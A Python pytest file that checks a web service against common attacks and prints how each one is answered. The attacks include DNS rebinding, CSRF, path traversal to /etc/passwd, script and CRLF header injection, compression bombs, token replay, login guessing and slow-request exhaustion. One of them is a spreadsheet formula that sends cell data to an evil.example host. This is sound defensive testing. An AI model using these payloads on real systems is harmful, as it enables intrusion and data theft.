"""Attacks, each with the answer it gets. `pytest -rP` on this file prints the list."""

import asyncio
import csv
import io
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
import uvicorn

from service.access import Role, add_user, make_token, revoke_token, tokens_of
from service.access.attempts import OF_ACCOUNT
from service.web.bounds import LARGEST_BODY, Bounds
from service.web.patience import PatientProtocol

from .conftest import HOSTILE, NOW, PORT, SLIPPING, Asking

SENTENCE = "four belts, well tensioned"


def told(attack: str, answer: httpx.Response) -> httpx.Response:
    said = " ".join(re.sub(r"<[^>]+>", " ", answer.text).split())[:90]
    print(f"{attack:<58} {answer.status_code}  {said}")
    return answer


@pytest.fixture
def closed(ask: Asking, quick_hashes: None) -> Asking:
    for role in Role:
        add_user(ask.store, role.value, role, SENTENCE, "root", NOW)
    return ask


@pytest.mark.parametrize(
    "host", ["evil.example", f"evil.example:{PORT}", "localhost.evil.example", "[::ffff:7f00:1]"]
)
def test_rebinding_a_name_to_this_machine(ask: Asking, host: str) -> None:
    answer = told(f"rebinding: Host {host}", ask("/api/v1/fans", headers={"host": host}))
    assert answer.status_code == 421
    assert SLIPPING not in answer.text


@pytest.mark.parametrize("header", ["X-Forwarded-For", "Forwarded", "X-Real-IP", "Via", "X-Forwarded-Host"])
def test_a_proxy_that_lets_everybody_seem_local(ask: Asking, header: str) -> None:
    answer = told(f"no user yet, header {header}", ask("/", headers={header: "127.0.0.1"}))
    assert answer.status_code == 403


def test_a_host_of_this_machine_said_from_afar(ask: Asking) -> None:
    ask.client = "192.0.2.7"
    assert told("no user yet, Host localhost from afar", ask("/")).status_code == 403


def test_a_form_of_another_site(closed: Asking) -> None:
    closed.log_in("admin", SENTENCE)
    fields = {"name": "mallory", "role": "admin", "password": "a long sentence"}
    foreign = {"origin": "https://evil.example", "sec-fetch-site": "cross-site"}
    assert (
        told("CSRF: form of another site", closed("/people", "POST", foreign, data=fields)).status_code == 403
    )
    assert told("CSRF: no Origin, no token", closed("/people", "POST", data=fields)).status_code == 403
    answer = closed("/api/v1/alerts/1/close", "POST", {"content-type": "text/plain"}, content=b'{"note":"x"}')
    assert told("CSRF: JSON dressed as text/plain", answer).status_code == 415
    assert "mallory" not in closed("/people").text


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static/%252e%252e/app.py",
        "/static//etc/passwd",
        "/fans/..%2f..%2f..%2fetc%2fpasswd",
        "/fans/%2e%2e%2fsite.toml",
        "/api/v1/fans/..%2f..%2fsite.toml/daily",
        "/api/v1/fans/%00/daily",
    ],
)
def test_a_path_that_climbs_out(ask: Asking, path: str) -> None:
    answer = told(f"traversal: {path}", ask(path))
    assert answer.status_code == 404
    assert "root:" not in answer.text
    assert "timezone" not in answer.text


@pytest.mark.parametrize("fan", HOSTILE)
def test_a_script_in_a_name_is_shown_and_not_run(ask_hostile: Asking, fan: str) -> None:
    where = {row["fan"]: row["page"] for row in ask_hostile("/api/v1/fans").json()}
    for path in ("/", where[fan], "/?q=<script>alert(1)</script>"):
        answer = ask_hostile(path)
        assert "<script>alert" not in answer.text
        assert "script-src 'unsafe" not in answer.headers["content-security-policy"]
        assert "unsafe-inline" not in answer.headers["content-security-policy"]
    told(f"script in a name: {fan[:30]}", answer)


def test_a_header_that_is_broken_in_two(closed: Asking) -> None:
    token = re.search(r'form_token" value="([^"]+)"', closed("/login").text)
    assert token is not None
    fields = {"form_token": token[1], "name": "viewer", "password": SENTENCE}
    split = closed("/login", "POST", data={**fields, "next": "/x\r\nset-cookie: a=b"})
    told("header injection: next=/x CRLF set-cookie", split)
    assert split.headers["location"] == "/"
    assert "a=b" not in str(split.headers)
    answer = closed("/x%0d%0aset-cookie:%20a=b", headers={"authorization": token_of(closed, Role.VIEWER)})
    assert "a=b" not in str(told("header injection: CRLF in the path", answer).headers)
    note = {"note": "seen\r\nBcc: all@example.edu"}
    header = {"authorization": token_of(closed, Role.OPERATOR)}
    answer = told(
        "header injection: CRLF in a note", closed("/api/v1/alerts/1/acknowledge", "POST", header, json=note)
    )
    assert answer.status_code == 400


def token_of(asking: Asking, role: Role) -> str:
    return "Bearer " + make_token(asking.store, role.value, "test", None, 30, "root", NOW)


def test_a_formula_in_a_cell(ask: Asking) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"open")'
    entry = {"date": "2025-07-01", "work": "inspected", "note": formula}
    assert ask(f"/api/v1/fans/{SLIPPING}/service", "POST", json=entry).status_code == 201
    answer = told("formula cell: download from a page", ask("/download/service.csv"))
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert f"'{formula}" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert answer.headers["content-disposition"].startswith("attachment")
    exact = ask("/api/v1/service", headers={"accept": "text/csv"})
    assert formula in [cell for row in csv.reader(io.StringIO(exact.text)) for cell in row]


def test_a_body_that_is_packed_or_too_large(closed: Asking) -> None:
    header = {"authorization": token_of(closed, Role.OPERATOR), "content-type": "application/json"}
    bomb = closed(
        "/api/v1/alerts/1/close", "POST", {**header, "content-encoding": "gzip"}, content=b"\x1f\x8b" * 99
    )
    assert told("packed body (a bomb when unpacked)", bomb).status_code == 415
    large = closed("/api/v1/alerts/1/close", "POST", header, content=b" " * (LARGEST_BODY + 1))
    assert told("body larger than allowed", large).status_code == 413
    deep = closed("/api/v1/alerts/1/close", "POST", header, content=b"[" * 50_000)
    assert told("50,000 brackets", deep).status_code == 400
    long = closed("/?q=" + "x" * 9000)
    assert told("address of 9,000 characters", long).status_code == 414
    many = "&".join(f"a{n}=1" for n in range(5000))
    kind = {"content-type": "application/x-www-form-urlencoded"}
    assert (
        told("form of 5,000 fields", closed("/login", "POST", kind, content=many.encode())).status_code == 400
    )


def test_a_token_or_session_played_again(closed: Asking) -> None:
    header = {"authorization": token_of(closed, Role.ADMIN)}
    assert closed("/api/v1/fans", headers=header).status_code == 200
    revoke_token(closed.store, tokens_of(closed.store, "admin")[0].id, "root", NOW)
    assert told("token replay after revoking", closed("/api/v1/fans", headers=header)).status_code == 401
    closed.log_in("admin", SENTENCE)
    kept = httpx.Cookies(closed.cookies)
    closed.send("/account", "/logout")
    closed.cookies = kept
    assert told("cookie replay after logout", closed("/people")).status_code == 303
    made_up = {"authorization": "Bearer slipledger_" + "A" * 43}
    assert told("token made up", closed("/api/v1/fans", headers=made_up)).status_code == 401


def test_guessing_passwords_ends_in_a_wait(closed: Asking) -> None:
    for n in range(OF_ACCOUNT):
        closed.client = f"192.0.2.{n}"
        closed("/login", headers={"x-forwarded-for": "198.51.100.1"})
        closed.log_in("admin", f"guess {n}")
    answer = told(
        "login guessing: sixth try, other address, right password", closed.log_in("admin", SENTENCE)
    )
    assert answer.status_code == 429


@pytest.fixture
def served(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[int, list[Any]]]:
    """The layer that bounds requests, really served, with a page that dawdles behind it."""
    reached: list[Any] = []

    async def page(scope: Any, receive: Callable[[], Any], send: Callable[[Any], Any]) -> None:
        reached.append(scope["path"])
        if scope["path"] == "/slow":
            await asyncio.sleep(20)
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"done"})

    listener = socket.create_server(("127.0.0.1", 0))
    bounds = Bounds(page, body_s=0.5, budget_s=0.5)
    monkeypatch.setattr(PatientProtocol, "head_s", 0.5)
    server = uvicorn.Server(
        uvicorn.Config(
            bounds, http=PatientProtocol, log_config=None, lifespan="off", timeout_graceful_shutdown=1
        )
    )
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
    thread.start()
    while not server.started:
        time.sleep(0.01)
    yield listener.getsockname()[1], reached
    server.should_exit = True
    thread.join()
    listener.close()


def test_a_body_that_trickles_in(served: tuple[int, list[Any]]) -> None:
    port, reached = served
    with socket.create_connection(("127.0.0.1", port)) as slow:
        slow.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\na")
        answer = slow.recv(200).decode()
    print(f"{'slow body':<58} {answer.split()[1]}  {answer.splitlines()[-1]}")
    assert answer.startswith("HTTP/1.1 408")
    assert reached == []


def test_a_head_that_trickles_in(served: tuple[int, list[Any]]) -> None:
    port, reached = served
    with socket.create_connection(("127.0.0.1", port), timeout=10) as slow:
        slow.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")  # a whole request first: the next one counts too
        answer = b""
        while not answer.endswith(b"0\r\n\r\n"):  # it may come in pieces
            answer += slow.recv(2000)
        assert answer.startswith(b"HTTP/1.1 200")
        slow.sendall(b"GET / HTTP/1.1\r\nHost:")
        begun = time.monotonic()
        assert slow.recv(200) == b""
    print(f"{'slow head of a second request':<58} hung up after {time.monotonic() - begun:.1f} s of 0.5 s")
    assert reached == ["/"]


def test_a_page_that_takes_too_long(served: tuple[int, list[Any]]) -> None:
    port, _ = served
    answer = told("page past its budget", httpx.get(f"http://127.0.0.1:{port}/slow", timeout=10))
    assert answer.status_code == 503
